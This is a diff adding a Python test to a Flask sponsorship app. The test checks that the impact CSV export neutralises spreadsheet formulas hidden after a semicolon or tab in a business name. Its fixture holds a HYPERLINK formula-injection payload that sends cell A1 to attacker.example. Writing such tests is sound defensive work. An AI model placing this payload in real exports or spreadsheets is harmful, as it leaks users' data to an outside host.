@@ -426,3 +426,24 @@ def test_the_impact_csv_neutralises_a_formula_in_a_business_name(
     rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
     assert rows[1][1] == "'" + formula  # shown as text by a spreadsheet, never run
     assert rows[1][3] == "1000000"  # numbers are left as they are
+
+
+def test_the_impact_csv_neutralises_a_formula_after_a_semicolon_or_tab(
+    client: FlaskClient, csr: Csr, db_session: Session
+) -> None:
+    # Excel in Indonesian (decimal comma) splits an unquoted CSV line at ";": this business
+    # name would be two cells there, the second a formula; a tab-separated import splits at tabs.
+    csr.business.name = 'Warung Siti;=HYPERLINK("http://attacker.example/?x="&A1;"klik")\t+1'
+    db_session.flush()
+    sid = csr.propose(client).json["id"]
+    csr.act(client, sid, "accept", csr.alumna_h)
+    paid = csr.disburse(client, sid, 1_000_000).json["id"]
+    confirm = f"/v1/sponsorships/{sid}/disbursements/{paid}/confirm"
+    assert client.post(confirm, headers=csr.alumna_h).status_code == 200
+    url = f"/v1/organizations/{csr.company.id}/impact?year={YEAR}&format=csv"
+    text = client.get(url, headers=csr.partner_h).get_data(as_text=True)
+    for delimiter in (";", "\t"):
+        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], delimiter
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1] == 'Warung Siti;\'=HYPERLINK("http://attacker.example/?x="&A1;"klik")\t\'+1'
